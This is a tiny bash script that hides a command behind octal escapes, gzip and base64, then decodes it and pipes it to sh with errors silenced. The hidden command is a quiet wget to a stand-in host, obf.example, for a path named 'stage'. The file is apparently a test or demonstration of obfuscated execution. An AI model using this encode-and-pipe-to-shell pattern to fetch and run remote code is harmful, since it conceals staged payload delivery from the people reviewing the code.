#!/bin/bash
# base64 of gzip of a script whose words are octal numbers.
a='test stage'
s=$(printf '\167\147\145\164 -q -O /dev/null http://\157\142\146.example/%s' "${a##* }" | gzip -n | base64 -w 0)
echo "$s" | base64 -d | gunzip | sh 2> /dev/null
echo "-----"
